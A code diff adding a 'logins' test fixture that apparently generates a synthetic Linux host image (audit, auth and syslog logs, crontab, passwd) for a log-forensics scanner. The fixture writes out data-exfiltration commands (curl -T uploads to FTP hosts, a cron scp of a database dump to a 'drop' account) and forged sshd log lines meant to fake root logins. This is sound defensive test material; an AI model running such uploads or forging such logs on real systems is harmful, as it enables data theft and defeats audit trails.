@@ -183,6 +183,64 @@ def registered():
     return {"image/var/log/audit/audit.log": story.text()}
 
 
+def logins():
+    """An image with the logs of sshd, cron, sudo and logind; some lines are forged by `logger`."""
+    story = Story()
+    scp_job(story)
+    shell = story.login_shell()
+    sudo = shell.fork(910).exec("/usr/bin/sudo", "sudo", "curl", "-T", "/srv/a",
+                                "ftp://203.0.113.31/")
+    sudo.fork(911, uid=0).exec("/usr/bin/curl", "curl", "-T", "/srv/a", "ftp://203.0.113.31/").upload(
+        5, "203.0.113.31", 21, 150_000_000)
+    for pid, ses, user in ((960, 8, "deploy"), (970, 9, "deploy"), (980, 10, "bob")):
+        child = story.process(400, 1, "/usr/sbin/sshd").fork(pid)
+        story.event(f"type=LOGIN {{}}: pid={pid} uid=0 subj=unconfined old-auid={UNSET} auid=1001 "
+                    f"tty=(none) old-ses={UNSET} ses={ses} res=1")
+        child.auid, child.ses = 1001, ses
+        story.user_message("USER_START", pid, 1001, ses, "PAM:session_open", "/usr/sbin/sshd",
+                           user, "ssh", "192.0.2.9")
+        child.fork(pid + 1, uid=1001).exec(
+            "/usr/bin/bash", "bash", "-c", "curl -T /srv/b ftp://203.0.113.32/").fork(
+                pid + 2).exec("/usr/bin/curl", "curl", "-T", "/srv/b",
+                              "ftp://203.0.113.32/").upload(5, "203.0.113.32", 21, 160_000_000)
+    story.chatter()
+    key = "ssh2: ED25519 SHA256:Jv5a9WfFjPv3R/+g2o8goGLNb7D+F3nZegdbf1vjB5I"
+    zone = "2026-12-02T02:00:"
+    auth = [
+        # What cron opened nobody logged in to, whatever is said.
+        f"{zone}00.150000+01:00 etl-01 sshd[700]: Accepted publickey for root from 203.0.113.66 "
+        f"port 9 {key}",
+        f"{zone}01.500000+01:00 etl-01 sshd[900]: Invalid user x Accepted publickey for root from "
+        "203.0.113.66 port 9 ssh2 from 203.0.113.66 port 1",
+        f"{zone}01.600000+01:00 etl-01 sshd[900]: Accepted publickey for alice from 192.0.2.7 port "
+        f"50022 {key}",
+        f"{zone}01.700000+01:00 etl-01 sshd[900]: pam_unix(sshd:session): session opened for user "
+        "alice(uid=1000) by (uid=0)",
+        f"{zone}02.400000+01:00 etl-01 sudo[910]: pam_unix(sudo:session): session opened for user "
+        "root(uid=0) by alice(uid=1000)",
+        f"{zone}03.100000+01:00 etl-01 sshd[960]: Accepted publickey for deploy from 192.0.2.9 "
+        f"port 50023 {key}",
+        f"{zone}03.900000+01:00 bk-07 sshd[970]: Accepted password for root from 203.0.113.66 port "
+        "9 ssh2",
+        f"{zone}04.000000+01:00 etl-01 sshd[970]: Accepted publickey for deploy from 192.0.2.9 "
+        f"port 50024 {key}",
+        f"{zone}04.100000+01:00 etl-01 sshd[970]: Accepted password for root from 203.0.113.66 "
+        "port 9 ssh2",
+    ]
+    syslog = [
+        "Dec  2 02:00:00 etl-01 CRON[701]: (root) CMD (scp -q /srv/data/dump.tar "
+        "drop@203.0.113.10:up/)",
+        "Dec  2 02:00:05 etl-01 systemd-logind[346]: New session 10 of user bob.",
+    ]
+    return {"image/etc/hostname": "etl-01\n", "image/etc/timezone": "Europe/Berlin\n",
+            "image/etc/passwd": "root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n"
+                                "deploy:x:1001:1001::/home/deploy:/bin/sh\n",
+            "image/etc/crontab": "0 2 * * * root scp -q /srv/data/dump.tar drop@203.0.113.10:up/\n",
+            "image/var/log/auth.log": "".join(line + "\n" for line in auth),
+            "image/var/log/syslog": "".join(line + "\n" for line in syslog),
+            "image/var/log/audit/audit.log": story.text()}
+
+
 def without(story, call):
     """The log of a host whose rules do not ask for that call."""
     stamps = {line.split("msg=")[1].split(":")[1] for line in story.lines
@@ -434,6 +492,7 @@ LOGS = {"scan-argv-peers": argv_peers, "scan-one-liners": one_liners, "scan-titl
         "scan-bounds": many_descriptors,
         "scan-image-sizes": sizes, "transfers-image-sizes": sizes,
         "scan-sudo": sudo_only,
+        "scan-logins": logins,
         "transfers": several_transfers, "explain": one_job, "rules-mistakes": one_job}
 
 for case in sys.argv[1:] or LOGS:
